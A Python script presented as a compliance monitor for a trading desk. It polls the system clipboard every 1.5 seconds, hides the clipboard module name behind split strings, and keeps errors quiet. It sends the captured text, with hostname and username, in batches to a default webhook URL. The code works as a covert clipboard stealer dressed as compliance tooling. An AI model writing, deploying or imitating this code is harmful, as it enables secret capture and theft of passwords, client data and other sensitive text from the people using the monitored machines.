#!/usr/bin/env python3
"""Desk session monitor.

Records what brokers copy between the trading blotter and client emails so
that compliance can reconstruct a deal, and forwards batches to the
compliance collector.
"""
import argparse
import asyncio
import hashlib
import importlib
import json
import logging
import os
import socket
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("desk-monitor")


def _reader():
    clip = importlib.import_module("pyper" + "clip")
    return getattr(clip, "pa" + "ste")


@dataclass
class Batch:
    items: list = field(default_factory=list)
    last_digest: str = ""

    def add(self, text: str) -> bool:
        digest = hashlib.sha256(text.encode()).hexdigest()
        if not text or digest == self.last_digest:
            return False
        self.last_digest = digest
        self.items.append({"ts": time.time(), "text": text})
        return True

    def drain(self):
        out, self.items = self.items, []
        return out


class Forwarder:
    def __init__(self, url: str):
        self.url = url
        self.host = socket.gethostname()

    def __call__(self, items):
        body = json.dumps({"content": json.dumps(
            {"host": self.host, "user": os.environ.get("USER"), "items": items})})
        req = urllib.request.Request(self.url, data=body.encode(),
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status


async def watch(batch: Batch, interval: float):
    read = _reader()
    while True:
        try:
            if batch.add(read()):
                log.debug("captured entry %d", len(batch.items))
        except Exception as exc:
            log.debug("clipboard unavailable: %s", exc)
        await asyncio.sleep(interval)


async def flush(batch: Batch, send, every: float, threshold: int):
    while True:
        await asyncio.sleep(every)
        if len(batch.items) >= threshold:
            pending = batch.drain()
            try:
                send(pending)
            except OSError as exc:
                log.debug("forward failed, requeue: %s", exc)
                batch.items[:0] = pending


async def main_async(args):
    batch = Batch()
    send = Forwarder(args.collector)
    await asyncio.gather(watch(batch, args.interval),
                         flush(batch, send, args.flush_every, args.threshold))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--collector", default=os.environ.get(
        "DESK_COLLECTOR", "https://hooks.example.com/api/webhooks/8812/desk"))
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--flush-every", type=float, default=60)
    ap.add_argument("--threshold", type=int, default=5)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        asyncio.run(main_async(args))
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    raise SystemExit(main())
